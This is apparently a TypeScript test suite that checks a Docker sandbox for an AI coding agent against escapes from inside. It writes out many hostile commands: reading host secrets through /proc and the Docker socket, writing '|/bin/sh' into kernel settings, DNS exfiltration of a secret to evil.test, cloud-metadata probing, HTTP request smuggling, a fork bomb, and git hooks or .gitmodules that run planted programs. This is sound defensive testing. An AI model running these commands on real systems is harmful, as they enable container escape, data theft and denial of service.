import { execFile, execFileSync } from "node:child_process";
import { randomUUID } from "node:crypto";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { type AddressInfo, createServer } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { lazyShell } from "../../src/agent/lazy-shell.ts";
import { runTool } from "../../src/agent/run-tool.ts";
import { coderTools } from "../../src/agent/tools/coder-tools.ts";
import type { Change } from "../../src/domain/forge.ts";
import type { Refusal, Sandbox, SandboxProvider, SandboxRequest } from "../../src/domain/sandbox.ts";
import { takeChange } from "../../src/execution/take-change.ts";
import { createGit } from "../../src/forge/git.ts";
import { receiveChange } from "../../src/forge/receive-change.ts";
import { dockerProvider } from "../../src/sandbox/docker-provider.ts";
import { bareMirror } from "../support/bare-mirror.ts";
import { aCall } from "../support/played-model.ts";
import { dockerForTests } from "../support/sandbox-providers.ts";

// What code in a sandbox may try to get out, or to bring the worker down. Every test is one attempt, made from inside, and
// after each one the sandbox and the process that owns it must be alive.

const owner = `test-${randomUUID()}`;
const secret = `secret-${randomUUID()}`;
const folder = mkdtempSync(join(tmpdir(), "escape-"));
const secretFile = join(folder, "host-secret.txt");
const never = new AbortController().signal;
const mirror = bareMirror({ "README.md": "hello\n" });

/** Who came to the host's listeners. */
const reached: string[] = [];
const tcp = createServer((socket) => {
  reached.push("tcp");
  socket.on("error", () => undefined).end(secret);
});
const udp = createSocket("udp6", () => reached.push("udp"));
const web = createHttpServer((request, response) => {
  if (request.url === "/away") response.writeHead(302, { location: `http://forbidden.test:${webPort}/` }).end();
  else response.end(`allowed ${request.headers.host}`);
});
const ports = { tcp: 0, udp: 0 };
let webPort = 0;
/** Names that the guard was made to look up. */
const lookedUp: string[] = [];

const portOf = (address: string | AddressInfo | null) => (typeof address === "object" ? (address?.port ?? 0) : 0);

beforeAll(async () => {
  process.env["NIGHTSHIFT_ESCAPE_SECRET"] = secret;
  writeFileSync(secretFile, secret);
  // On every address that the machine has, of both families.
  await once(tcp.listen(0, "::"), "listening");
  ports.tcp = portOf(tcp.address());
  await once(udp.bind(0, "::"), "listening");
  ports.udp = udp.address().port;
  await once(web.listen(0, "127.0.0.1"), "listening");
  webPort = portOf(web.address());
});
afterAll(() => {
  delete process.env["NIGHTSHIFT_ESCAPE_SECRET"];
  tcp.close();
  udp.close();
  web.close();
  web.closeAllConnections();
  mirror[Symbol.dispose]();
  rmSync(folder, { recursive: true, force: true });
});

const addresses: Readonly<Record<string, string>> = {
  "allowed.test": "127.0.0.1",
  "private.test": "192.168.7.7",
  "metadata.test": "169.254.169.254",
};

const guardOptions = () => ({
  parent: join(folder, "g"),
  internal: ["allowed.test"],
  loopback: true,
  ports: [80, 443, webPort],
  resolve: async (host: string) => {
    lookedUp.push(host);
    return [{ address: addresses[host] ?? "93.184.215.14", family: 4 }];
  },
});

const providers: readonly {
  readonly name: string;
  readonly here: boolean;
  readonly provider: () => SandboxProvider;
}[] = [
  { name: "docker", here: await dockerForTests(), provider: () => dockerProvider({ owner, guard: guardOptions() }) },
];

for (const { name, here, provider: make } of providers) {
  describe.skipIf(!here)(`out of a sandbox of the ${name} provider, no way leads by`, () => {
    let provider: SandboxProvider;
    let sandbox: Sandbox;
    const refusals: Refusal[] = [];

    const request = (changes: Partial<SandboxRequest> = {}): SandboxRequest => ({
      runId: "escapes",
      lease: 1,
      purpose: "work",
      mirror: mirror.path,
      network: { allow: Object.keys(addresses) },
      limits: { memoryMb: 256, cpus: 1, processes: 100, diskMb: 500, openFiles: 256 },
      onRefusal: (refusal) => refusals.push(refusal),
      ...changes,
    });
    const create = (changes: Partial<SandboxRequest> = {}) => provider.create(request(changes), { signal: never });
    const run = (line: string, of = sandbox, timeoutMs = 60_000) => of.run({ line, timeoutMs }, { signal: never });
    const outputOf = async (line: string, of = sandbox) => (await run(line, of)).output.trim();
    /** Runs a program; it prints what it got hold of. */
    const python = async (program: string, of = sandbox) => {
      const path = `${of.scratch}/attempt.py`;
      await of.writeFile(path, Buffer.from(program));
      return await outputOf(`python3 ${path} 2>&1`, of);
    };
    const use = async (tool: string, args: unknown) =>
      (
        await runTool(aCall(tool, args), coderTools, {
          sandbox,
          shell: lazyShell(sandbox),
          files: lazyShell(sandbox),
          signal: never,
        })
      ).result;

    beforeAll(async () => {
      provider = make();
      sandbox = await create();
    });
    afterAll(() => sandbox?.[Symbol.asyncDispose]());
    afterEach(async () => {
      expect(reached).toEqual([]);
      expect(await outputOf("echo alive")).toBe("alive");
      refusals.length = 0;
      lookedUp.length = 0;
    });

    describe("what is on the host:", () => {
      test("its environment", async () => {
        expect(await outputOf("env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'")).not.toContain(secret);
      });

      test("a file by its path", async () => {
        expect(await outputOf(`cat ${secretFile} 2>&1`)).not.toContain(secret);
      });

      test("a file by the root or the folder of another process", async () => {
        const line = `for p in /proc/[0-9]*; do cat $p/root${secretFile} $p/cwd${secretFile} 2>/dev/null; done; ls /proc/1/root/ 2>&1`;
        expect(await outputOf(line)).not.toContain(secret);
      });

      test("the engine's socket", async () => {
        const line =
          "for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock; do curl -sS --unix-socket $s http://engine/version 2>&1; done";
        expect(await outputOf(line)).not.toMatch(/ApiVersion/);
        expect(
          await outputOf("find / -type s -not -path '/proc/*' 2>/dev/null | grep -v '^/run/nightshift/'; true"),
        ).toBe("");
      });

      test("a disk or the memory as a device", async () => {
        const line = "mknod disk b 254 0; head -c 64 /dev/vda /dev/sda /dev/mem /dev/kmsg; find /dev -type b";
        const output = await outputOf(`(${line}) 2>&1`);
        expect(output).toMatch(/mknod: .*Operation not permitted/);
        expect(output.split("\n").filter((it) => it.startsWith("/dev/"))).toEqual([]);
      });

      test("the kernel's settings", async () => {
        const paths =
          "/proc/sys/kernel/core_pattern /proc/sysrq-trigger /proc/sys/vm/overcommit_memory /sys/kernel/uevent_helper /proc/self/attr/exec";
        const line = `for p in ${paths}; do (echo '|/bin/sh' >$p) 2>/dev/null && echo wrote $p; done; true`;
        expect(await outputOf(line)).toBe("");
      });

      test("a mount, a namespace of its own or a new root", async () => {
        const tries = [
          "mount -t tmpfs none /mnt",
          "unshare --user --map-root-user id",
          "unshare --mount id",
          "chroot / id",
          "nsenter --target 1 --all id",
        ];
        for (const line of tries) expect([line, (await run(line)).exitCode]).not.toEqual([line, 0]);
      });

      test("becoming somebody else", async () => {
        expect(await python("import os\ntry: os.setuid(0); print('root')\nexcept OSError as e: print(e.errno)")).toBe(
          "1",
        );
        expect((await run("su -c id </dev/null")).exitCode).not.toBe(0);
        expect(await outputOf("grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status | tr -d '\\t'")).toBe(
          "NoNewPrivs:1\nSeccomp:2",
        );
      });

      test("its clock, its name or its modules", async () => {
        for (const line of ["date -s 2001-01-01", "hostname other", "chmod 700 / ", "echo x >/etc/passwd"]) {
          expect([line, (await run(line)).exitCode]).not.toEqual([line, 0]);
        }
      });

      test("the mirror, which other runs read as well", async () => {
        const lines = [
          `touch ${sandbox.mirror}/x`,
          `rm -rf ${sandbox.mirror}/objects`,
          `git -C ${sandbox.mirror} update-ref refs/heads/x HEAD`,
        ];
        for (const line of lines) expect([line, (await run(line)).exitCode]).not.toEqual([line, 0]);
        expect(execFileSync("git", ["-C", mirror.path, "fsck"], { stdio: "pipe" }).toString()).toBe("");
      });
    });

    describe("what belongs to others:", () => {
      test("the processes, files and listeners of another run's sandbox", async () => {
        await using other = await create({ runId: "other" });
        await run(
          `echo ${secret} >here; (python3 -m http.server 8000 >/dev/null 2>&1 &) ; until curl -s 127.0.0.1:8000/here; do :; done`,
          other,
        );
        expect(
          await outputOf("ps -e -o args; curl -s --max-time 2 127.0.0.1:8000/here sandbox:8000/here; true"),
        ).not.toMatch(new RegExp(`${secret}|http.server`));
        expect(await outputOf("cat /proc/[0-9]*/root/workspace/here 2>/dev/null; true")).toBe("");
      });

      test("the password of another run", async () => {
        await using other = await create({ runId: "other" });
        const foreign = await outputOf("echo $HTTP_PROXY", other);
        const own = await outputOf("echo $HTTP_PROXY");
        expect(foreign).not.toBe(own);
        const url = `http://allowed.test:${webPort}/`;
        const status = (proxy: string) => outputOf(`curl -s -o /dev/null -w '%{http_code}' --proxy '${proxy}' ${url}`);
        expect(await status(own)).toBe("200");
        expect(await status(foreign)).toBe("407");
        expect(await status(own.replace(/\/\/.*@/, "//"))).toBe("407");
      });

      test("the guard's own files and process", async () => {
        const lines = [
          "echo x >>/run/nightshift/forward.pl",
          "rm -f /run/nightshift/proxy",
          "touch /run/nightshift/x",
          "pkill -KILL perl",
          "kill -KILL 1",
          "cat /proc/1/environ /proc/1/mem",
        ];
        for (const line of lines) expect([line, (await run(line)).exitCode]).not.toEqual([line, 0]);
        await run("kill -KILL -1");
        expect(await outputOf(`curl -sS http://allowed.test:${webPort}/`)).toBe(`allowed allowed.test:${webPort}`);
      });
    });

    describe("the network:", () => {
      const connectTo = (targets: readonly string[], port: number) => `
import socket
for host in ${JSON.stringify(targets)}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for at in ${JSON.stringify([port])}:
            family = socket.AF_INET6 if ":" in host else socket.AF_INET
            s = socket.socket(family, kind); s.settimeout(1)
            try:
                s.connect((host, at)); s.send(b"hello")
                if kind == socket.SOCK_STREAM: print("reached", host, s.recv(100))
            except OSError: pass`;
      const everyAddress = () => [
        ...Object.values(networkInterfaces()).flatMap((found) => found?.map(({ address }) => address) ?? []),
        ...["127.0.0.1", "::1", "172.17.0.1", "0.0.0.0", "::"],
      ];

      test("a listener on any of the host's addresses, by TCP", async () => {
        expect(await python(connectTo(everyAddress(), ports.tcp))).toBe("");
      });

      test("a listener on any of the host's addresses, by UDP", async () => {
        expect(await python(connectTo(everyAddress(), ports.udp))).toBe("");
      });

      test("a listener on any of the host's addresses, through the guard", async () => {
        for (const address of everyAddress()) {
          const host = address.includes(":") ? `[${address}]` : address;
          const line = `curl -s --noproxy '' --proxytunnel --max-time 5 http://${host}:${ports.tcp}/; curl -s --noproxy '' --max-time 5 http://${host}:${ports.tcp}/`;
          expect(await outputOf(line)).not.toContain(secret);
        }
        expect(refusals.length).toBeGreaterThan(0);
      });

      test("a database, at its usual port and by an allowed name", async () => {
        const line = `for port in 5432 ${ports.tcp}; do curl -s -o /dev/null -w '%{http_connect} ' --proxytunnel http://allowed.test:$port/; done`;
        expect(await outputOf(line)).toBe("403 403");
        expect(refusals).toMatchObject([{ reason: "forbidden_port" }, { reason: "forbidden_port" }]);
      });

      test("the metadata service of a cloud", async () => {
        const line =
          "curl -s --max-time 3 --noproxy '*' http://169.254.169.254/; curl -s http://169.254.169.254/latest/; curl -s http://metadata.test/; curl -s 'http://[fd00:ec2::254]/'";
        expect((await outputOf(line)).match(/lets nothing through/g)).toHaveLength(3);
        expect(refusals.map(({ reason }) => reason)).toEqual(["not_allowed", "forbidden_address", "not_allowed"]);
      });

      test("questions to a name server, its own or the guard's", async () => {
        const direct = `
import socket
try: print(socket.getaddrinfo("${secret}.evil.test", 80))
except OSError: pass
for server in ("8.8.8.8", "127.0.0.11", "1.1.1.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    try: s.sendto(b"\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01", (server, 53)); print("answer", s.recv(100))
    except OSError: pass`;
        expect(await python(direct)).toBe("");
        await run(`curl -s http://${secret}.evil.test/; curl -s https://${secret}.allowed.test/`);
        expect(lookedUp).toEqual([]);
      });

      test("a straight connection to an address of the Internet, of either family", async () => {
        const program = connectTo(["93.184.215.14", "2606:2800:21f:cb07:6820:80da:af6b:8b2c"], 443);
        expect(await python(program)).toBe("");
        expect(
          await outputOf(
            "cat /proc/net/route | tail -n +2; grep -v ' lo$' /proc/net/ipv6_route | grep -v '^0\\{32\\} 00'",
          ),
        ).toBe("");
      });

      test("packets of its own making, and other families of sockets", async () => {
        const program = `
import socket
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET6, socket.SOCK_RAW)):
    try: socket.socket(family, kind, socket.IPPROTO_ICMP); print("opened", family)
    except OSError: pass`;
        expect(await python(program)).toBe("");
      });

      test("the machine's hypervisor, over its own kind of socket", async () => {
        const program = `
import socket
for cid in (0, 1, 2, 3):
    try:
        s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(1); s.connect((cid, 1024)); print("connected", cid)
    except OSError as e: pass`;
        expect(await python(program)).toBe("");
      });

      test("an allowed name that means a private address", async () => {
        expect(await outputOf("curl -s http://private.test/")).toContain("forbidden_address");
        expect(refusals).toMatchObject([{ host: "private.test", reason: "forbidden_address" }]);
      });

      test("a redirect from an allowed host to a forbidden one", async () => {
        expect(await outputOf(`curl -sL http://allowed.test:${webPort}/away`)).toContain("forbidden.test");
        expect(refusals).toMatchObject([{ host: "forbidden.test", reason: "not_allowed" }]);
      });

      test("a forbidden host behind an allowed name in the headers", async () => {
        const line = `curl -s -H 'Host: forbidden.test' http://allowed.test:${webPort}/; curl -s -H 'Host: allowed.test' http://forbidden.test:${webPort}/`;
        expect(await outputOf(line)).not.toContain("allowed allowed");
      });

      test("a second request smuggled into the first", async () => {
        const program = `
import os, socket, base64, urllib.parse
proxy = urllib.parse.urlparse(os.environ["HTTP_PROXY"])
auth = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
s = socket.create_connection((proxy.hostname, proxy.port)); s.settimeout(5)
first = f"POST http://allowed.test:${webPort}/ HTTP/1.1\\r\\nHost: allowed.test:${webPort}\\r\\nProxy-Authorization: Basic {auth}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
s.sendall((first + "GET http://forbidden.test/ HTTP/1.1\\r\\nHost: forbidden.test\\r\\n\\r\\n").encode())
try: print(s.recv(10000).decode())
except OSError: pass`;
        expect(await python(program)).toMatch(/^(HTTP\/1\.1 400|$)/);
      });
    });

    describe("using up the machine:", () => {
      test("a fork bomb", async () => {
        await using own = await create({ runId: "bomb" });
        const result = await run("bomb() { bomb | bomb & }; bomb; sleep 60", own, 3_000);
        expect(result).toMatchObject({ timedOut: true });
        expect(await outputOf("echo alive; ps -e | wc -l", own)).toMatch(/^alive\n\d$/);
      });

      test("memory", async () => {
        expect(await run("exec python3 -c 'x = [bytearray(10_000_000) for _ in range(1000)]'")).toMatchObject({
          exitCode: null,
        });
      });

      test("memory that looks like files", async () => {
        const result = await run(
          'exec python3 -c \'f = open("/dev/shm/x", "wb")\nfor _ in range(1000): f.write(bytes(10_000_000))\' 2>&1; rm -f /dev/shm/x',
        );
        expect(result.exitCode).not.toBe(0);
        await run("rm -f /dev/shm/x");
      });

      test("the disk, by many files", async () => {
        await using own = await create({ runId: "disk", limits: { ...request().limits, diskMb: 64 } });
        const result = await run(
          "for i in $(seq 1000); do head -c 8000000 /dev/zero >$i || exit 1; [ $i -lt 20 ] || sleep 1; done",
          own,
        );
        expect(result).toMatchObject({ exitCode: null, timedOut: false, diskFull: true });
        expect(result.output).toContain("sandbox.disk_mb");
        expect(await outputOf("rm -f *; echo alive", own)).toBe("alive");
      });

      test("the disk, from the background and by short commands in turn", async () => {
        await using own = await create({ runId: "disk", limits: { ...request().limits, diskMb: 64 } });
        const loop = "i=0; while true; do i=$((i+1)); head -c 4000000 /dev/zero >back$i; sleep 0.05; done";
        await run(`setsid env -i PATH="$PATH" sh -c '${loop}' >/dev/null 2>&1 &`, own);
        const isOver = async () => (await run("[ $(du -sm . | cut -f 1) -gt 64 ]", own)).exitCode === 0;
        await expect.poll(isOver, { timeout: 30_000, interval: 100 }).toBe(true);
        const isStill = async () =>
          /^(\d+) \1$/.test(await outputOf("a=$(ls | wc -l); sleep 0.3; echo $a $(ls | wc -l)", own));
        await expect.poll(isStill, { timeout: 30_000, interval: 100 }).toBe(true);
        const filling = async () => {
          for (let turn = 0; turn < 2_000; turn += 1) await run(`head -c 4000000 /dev/zero >turn${turn}`, own);
        };
        await expect(filling()).rejects.toMatchObject({ code: "sandbox_failed" });
      });

      test("the disk, by one file", async () => {
        await using own = await create({ runId: "disk", limits: { ...request().limits, diskMb: 64 } });
        expect(await run("exec head -c 1G /dev/zero >file", own)).toMatchObject({ exitCode: null, diskFull: true });
        expect((await run("exec fallocate -l 1G file", own)).exitCode).not.toBe(0);
      });

      test("open files", async () => {
        const program =
          "import os\nn = 0\ntry:\n  while True: os.open('/dev/null', 0); n += 1\nexcept OSError: print(n < 256)";
        expect(await python(program)).toBe("True");
      });

      test("ten gigabytes of output", async () => {
        const before = process.memoryUsage().rss;
        const result = await run("exec head -c 10G /dev/zero", sandbox, 20_000);
        expect(result.output.length).toBeLessThan(1_100_000);
        expect(process.memoryUsage().rss - before).toBeLessThan(300_000_000);
      });

      test("limits that it raises itself", async () => {
        const lines = [
          "ulimit -n 100000",
          "ulimit -f unlimited",
          "ulimit -c unlimited",
          "nice -n -20 true | grep -v x",
          "prlimit --pid $$ --nofile=100000:100000",
        ];
        const raised = `
import resource
for name in ("RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_CORE"):
    try: resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); print("raised", name)
    except (OSError, ValueError): pass`;
        expect(await python(raised)).toBe("");
        for (const line of lines.slice(0, 3)) expect([line, (await run(line)).exitCode]).not.toEqual([line, 0]);
        const groups =
          "find /sys/fs/cgroup -name 'memory.*limit*' -o -name 'memory.max' -o -name 'pids.max' -o -name 'cpu.*quota*'";
        expect(
          await outputOf(
            `for f in $(${groups} 2>/dev/null); do (echo 9999999999 >$f) 2>/dev/null && echo raised $f; done; true`,
          ),
        ).toBe("");
      });

      test("a process that outlives its command, and then its sandbox", async () => {
        const own = await create({ runId: "outlives" });
        const mark = `mark-${randomUUID()}`;
        await run(`(setsid env -i PATH=$PATH bash -c 'exec -a ${mark} sleep 300' >/dev/null 2>&1 &)`, own);
        const living = async () => (await promisify(execFile)("ps", ["-e", "-o", "args"])).stdout.includes(mark);
        await expect.poll(living, { timeout: 20_000 }).toBe(true);
        await own[Symbol.asyncDispose]();
        await expect.poll(living, { timeout: 20_000 }).toBe(false);
      });
    });

    describe("our own tools:", () => {
      test("a symbolic link out of the workspace", async () => {
        await run("ln -sf /etc/passwd link; ln -sfn / root");
        for (const path of ["link", "root/etc/passwd"]) {
          expect(await use("read_file", { path })).toMatchObject({
            isError: true,
            text: expect.stringContaining("outside the workspace"),
          });
          expect(await use("write_file", { path, content: "x" })).toMatchObject({ isError: true });
          expect(await use("edit_file", { path, old_text: "root", new_text: "x" })).toMatchObject({ isError: true });
        }
      });

      test("a path with `..`, or an absolute one", async () => {
        for (const path of ["../etc/passwd", "a/../../etc/passwd", "/etc/passwd", "/proc/1/environ"]) {
          expect(await use("read_file", { path })).toMatchObject({ isError: true });
        }
      });

      test("files of the host under the sandbox's own paths", async () => {
        await expect(sandbox.readFile(secretFile)).rejects.toMatchObject({ code: "bad_input" });
        await expect(sandbox.writeFile("/etc/cron.d/x", Buffer.from("x"))).rejects.toMatchObject({ code: "bad_input" });
      });
    });

    describe("the change that it hands over:", () => {
      const git = createGit(process.env);
      const receive = (change: Change) =>
        receiveChange(git, {
          change,
          mirror: { path: mirror.path, defaultBranch: "main", headSha: change.baseSha },
          dataDir: folder,
          signal: never,
        });
      const identity = "-c user.name=x -c user.email=x@localhost";

      /** A fresh checkout, with commits of its own on the branch `change` and `$BASE` below them. */
      async function handOver(lines: string, refs = "refs/heads/change"): Promise<Change> {
        const line = `cd ${sandbox.scratch} && rm -rf w && git clone -q --shared ${sandbox.mirror} w && cd w && git checkout -qB change && BASE=$(git rev-parse HEAD) && ${lines} && git bundle create -q ../b ${refs} "^$BASE" && echo $BASE $(git rev-parse refs/heads/change)`;
        const [baseSha = "", headSha = ""] = (await outputOf(line)).split("\n").at(-1)?.split(" ") ?? [];
        return { baseSha, headSha, bundle: await sandbox.readFile(`${sandbox.scratch}/b`) };
      }

      test("an honest one is received, so that the next tests can fail", async () => {
        const change = await handOver(`echo x >x && git add x && git ${identity} commit -qm x`);
        await using received = await receive(change);
        expect(existsSync(received.gitDir)).toBe(true);
      });

      test("hooks, core.fsmonitor, filters and aliases in .git/config that run a program", async () => {
        const pwned = join(folder, "pwned");
        const program = `#!/bin/sh\ntouch ${pwned} ${sandbox.scratch}/ran\n`;
        await run(`git clone -q --shared ${sandbox.mirror} . && git checkout -qB change`);
        await sandbox.writeFile(`${sandbox.scratch}/evil`, Buffer.from(program));
        const evil = `${sandbox.scratch}/evil`;
        await run(
          `chmod +x ${evil}; for h in pre-commit post-commit reference-transaction post-index-change; do cp ${evil} .git/hooks/$h; done; git config core.fsmonitor ${evil}; git config core.sshCommand ${evil}; git config core.pager ${evil}; git config filter.x.clean ${evil}; git config diff.external ${evil}; git config uploadpack.packObjectsHook ${evil}; echo '* filter=x' >.gitattributes; echo change >file`,
        );
        const baseSha = execFileSync("git", ["-C", mirror.path, "rev-parse", "main"]).toString().trim();
        const author = { name: "Nightshift", email: "nightshift@localhost" };
        const change = await takeChange(sandbox, baseSha, { message: "Change", author }, never).catch(() => null);
        if (change !== null) await (await receive(change))[Symbol.asyncDispose]();
        expect(existsSync(pwned)).toBe(false);
        await run("rm -rf .git .gitattributes file");
      });

      test("a bundle with a ref that is not ours", async () => {
        const change = await handOver(
          `git ${identity} commit -q --allow-empty -m x && git branch main2`,
          "refs/heads/change refs/heads/main2",
        );
        await expect(receive(change)).rejects.toMatchObject({ code: "bad_change" });
      });

      test("a commit whose tree holds .git", async () => {
        const tree = `BLOB=$(echo x | git hash-object -w --stdin) && SUB=$(printf '100644 blob %s\\tconfig\\n' $BLOB | git mktree) && TREE=$(printf '040000 tree %s\\t.git\\n' $SUB | git mktree)`;
        const change = await handOver(
          `${tree} && git update-ref refs/heads/change $(git ${identity} commit-tree -p $BASE -m x $TREE)`,
        );
        await expect(receive(change)).rejects.toMatchObject({ code: "bad_change" });
      });

      test("a .gitmodules that runs a program where it is cloned", async () => {
        const modules = `printf '[submodule "x"]\\n\\tpath = x\\n\\turl = -u./evil\\n' >.gitmodules && git add .gitmodules && git ${identity} commit -qm x`;
        await expect(receive(await handOver(modules))).rejects.toMatchObject({ code: "bad_change" });
      });

      test("a history that does not descend from the base", async () => {
        const orphan = `git checkout -q --orphan other && git ${identity} commit -qm x && git update-ref refs/heads/change HEAD`;
        await expect(receive(await handOver(orphan))).rejects.toMatchObject({ code: "bad_change" });
      });

      test("bytes that are no bundle", async () => {
        const change = await handOver(`git ${identity} commit -q --allow-empty -m x`);
        await expect(receive({ ...change, bundle: Buffer.from("# v2 git bundle\n\0\0") })).rejects.toMatchObject({
          code: "bad_change",
        });
      });
    });
  });
}
